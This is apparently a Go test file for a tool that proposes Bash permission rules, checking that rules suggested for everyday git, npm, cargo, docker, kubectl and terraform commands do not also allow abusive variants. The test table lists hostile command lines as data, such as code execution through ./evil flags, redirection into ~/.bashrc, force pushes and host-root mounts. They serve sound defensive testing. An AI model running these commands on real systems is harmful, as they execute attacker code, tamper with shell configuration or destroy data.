package suggest_test

import (
	"slices"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/seed49eaa51d/pegboard/internal/pattern"
	"github.com/seed49eaa51d/pegboard/internal/shellparse"
	"github.com/seed49eaa51d/pegboard/internal/suggest"
)

// parseLine reads a line of Bash in a directory that need not exist.
func parseLine(line string) shellparse.Line {
	return shellparse.Parse(line, shellparse.Env{Dir: "/home/me/proj", Home: "/home/me"})
}

// proposals are all proposals for the commands of a line.
func proposals(line string) (all []string) {
	for _, c := range parseLine(line).Commands {
		all = append(all, suggest.Command("Bash", c.Text)...)
	}
	return all
}

// covers reports whether a rule of Bash covers a command.
func covers(t *testing.T, spec string, c shellparse.Command) bool {
	t.Helper()
	s, err := pattern.Parse("Bash", spec)
	require.NoError(t, err)
	if len(c.Starts) > 0 {
		return s.Covers(pattern.Subject{Kind: pattern.Command, Names: c.Starts})
	}
	return s.Covers(pattern.Subject{Kind: pattern.Command, NoWildcards: c.NoWildcards, Names: []string{c.Text}})
}

// allowed reports whether rules let a line run without a question, as far as
// its text tells: it is understood, writes nothing by redirection, and each of
// its commands only reads or is covered.
func allowed(t *testing.T, specs []string, line string) bool {
	t.Helper()
	l := parseLine(line)
	writes := slices.ContainsFunc(l.Paths, func(p shellparse.Path) bool { return p.Write })
	if l.Unknown != "" || writes || len(l.Commands) == 0 {
		return false
	}
	for _, c := range l.Commands {
		covered := slices.ContainsFunc(specs, func(s string) bool { return covers(t, s, c) })
		if c.AskReason != "" || !covered && c.Class != shellparse.ReadOnly {
			return false
		}
	}
	return true
}

// everyday are commands that people are asked about and remember, each with what
// the same program must not do for that.
var everyday = []struct{ line, abuse string }{
	{"git add .", "git -c filter.x.clean=./evil add ."},
	{"git add src", "git --exec-path=. add src"},
	{"git add -A", "git --work-tree=/ --git-dir=/opt/g add -A"},
	{"git commit -m x", "git -c core.editor=./evil commit"},
	{"git commit -am x", "GIT_EDITOR=./evil git commit"},
	{"git commit --amend", "git commit --amend; git push --force"},
	{"git commit -m y", "git commit -m y > ~/.bashrc"},
	{"git commit -m z", "git commit -m $(./evil)"},
	{"git commit", "./git commit"},
	{"git commit -v", "git() { ./evil; }; git commit -v"},
	{"git stash push -m x", "git stash drop"},
	{"git stash", "git stash clear"},
	{"git stash pop", "git stash pop; git stash clear"},
	{"git push", "git push --force"},
	{"git push origin main", "git push origin :main"},
	{"git pull", "git pull --upload-pack=./evil"},
	{"git fetch", "git fetch --upload-pack=./evil ."},
	{"git clone https://host/x", "git clone -u ./evil x"},
	{"git switch main", "git switch --discard-changes main"},
	{"git checkout -b x", "git checkout -f -b x"},
	{"git restore a", "git restore ."},
	{"git reset HEAD", "git reset HEAD --hard"},
	{"git merge side", "git merge -s ../evil side"},
	{"git cherry-pick side", "git cherry-pick --strategy=../evil side"},
	{"git rebase main", "git rebase main --exec ./evil"},
	{"git tag v1", "git tag -d v1"},
	{"git branch x", "git branch -D x"},
	{"git config user.name x", "git config core.hooksPath x"},
	{"npm run test", "npm run test --script-shell=./evil"},
	{"npm test", "npm test --prefix ../other"},
	{"npm run build", "npm run build; ./evil"},
	{"npm install", "npm install evil"},
	{"npx tsc", "npx evil"},
	{"pnpm run test", "pnpm run test --config=/opt/evil.js"},
	{"yarn test", "yarn test --globalSetup=/opt/evil.js"},
	{"bun run build", "bun run build --plugin=/opt/evil.js"},
	{"make test", "make test SHELL=./evil"},
	{"make", "make --eval='x:;./evil' x"},
	{"make build", "make build -f /opt/Makefile"},
	{"cargo test", "cargo test --config build.rustc-wrapper=./evil"},
	{"cargo build", "cargo build --target-dir=/opt"},
	{"cargo clippy", "cargo clippy --fix"},
	{"go build ./...", "go build -toolexec=./evil ./..."},
	{"go test ./...", "go test -exec=./evil ./..."},
	{"go vet ./...", "go vet -vettool=./evil ./..."},
	{"go run .", "go run /opt/evil.go"},
	{"pytest", "pytest -p evil"},
	{"pytest tests", "pytest tests --basetemp=/home/me"},
	{"python3 manage.py test", "python3 -c 'import evil'"},
	{"node build.js", "node -e 'evil()'"},
	{"pip install -r requirements.txt", "pip install evil"},
	{"pip list", "pip list --python=./evil"},
	{"docker compose up -d", "docker compose -f /opt/evil.yml up -d"},
	{"docker build .", "docker build /opt"},
	{"docker run app", "docker run -v /:/host app"},
	{"docker exec app ls", "docker exec app rm -r /data"},
	{"kubectl get pods", "kubectl get pods --kubeconfig=./evil"},
	{"kubectl describe pod x", "kubectl describe pod x --server=https://evil.example"},
	{"kubectl logs x", "kubectl delete pod x"},
	{"kubectl apply -f a.yml", "kubectl apply -f b.yml"},
	{"terraform validate", "terraform -chdir=/opt validate"},
	{"terraform output url", "terraform output url > ~/.bashrc"},
	{"terraform state list", "terraform state rm x"},
	{"terraform state show a", "terraform state push /opt/evil"},
	{"terraform plan", "terraform plan -out=/home/me/.bashrc"},
	{"gh pr view 1", "gh pr view 1 -R evil.example/a/b"},
	{"gh pr list", "gh pr list --web -R evil.example/secret/b"},
	{"tsc --noEmit", "tsc --noEmit --noEmit false --outDir /opt"},
	{"eslint .", "eslint . --rulesdir=/opt"},
	{"prettier --check .", "prettier --check . --plugin=/opt/evil.js"},
	{"ruff check", "ruff check --output-file=/home/me/.bashrc"},
	{"mvn test", "mvn test -Dexec=./evil"},
	{"ssh host uptime", "ssh host uptime -oProxyCommand=./evil"},
	{"curl https://host/x", "curl https://host/x -o /home/me/.bashrc"},
	{"rm a", "rm a b"},
	{"chmod +x a", "chmod +x a /opt/evil"},
	{"sudo ls", "sudo ls /root"},
	{"tar xf a.tar", "tar xf a.tar --to-command=./evil"},
	{"rsync -a x y", "rsync -a x y -e ./evil"},
	{"find . -delete", "find . -delete -exec ./evil ;"},
	{"PATH=./bin make", "PATH=./bin; ls"},
	{"export PATH=./bin && make", "export PATH=./bin; ls"},
	{"python3 < a.py", "python3 < /opt/evil.py"},
	{"cat x | python3 -", "echo evil | python3 -"},
}

// TestProposalsAllowNoAbuse: what is proposed for an everyday command does not
// allow what the same program can be made to do.
func TestProposalsAllowNoAbuse(t *testing.T) {
	t.Parallel()
	prefixed := 0
	for _, tc := range everyday {
		specs := proposals(tc.line)
		if slices.ContainsFunc(specs, func(s string) bool { return s != tc.line }) {
			prefixed++
		}
		require.Empty(t, parseLine(tc.line).Unknown, "%q", tc.line)
		require.False(t, allowed(t, specs, tc.abuse), "%q allows %q", specs, tc.abuse)
	}
	require.Greater(t, prefixed, 10)
}

// TestProposalsAllowTheLine: a command that is not about its input is not asked
// about again.
func TestProposalsAllowTheLine(t *testing.T) {
	t.Parallel()
	asked := []string{"export PATH=./bin && make", "python3 < a.py", "cat x | python3 -"}
	for _, tc := range everyday {
		require.Equal(t, !slices.Contains(asked, tc.line), allowed(t, proposals(tc.line), tc.line), "%q", tc.line)
	}
}

// TestPrefixesAllowOtherArguments: what a prefix is for.
func TestPrefixesAllowOtherArguments(t *testing.T) {
	t.Parallel()
	tests := []struct{ line, next string }{
		{"git add a", "git add b c"},
		{"git add a", "git add b && git status"},
		{"git stash push", "git stash push -u -m x -- src"},
		{"find . -name x | xargs git add", "git add y"},
		{"terraform output a", "terraform output -json b"},
	}
	for _, tc := range tests {
		require.True(t, allowed(t, proposals(tc.line), tc.next), "%q", tc.next)
	}
}
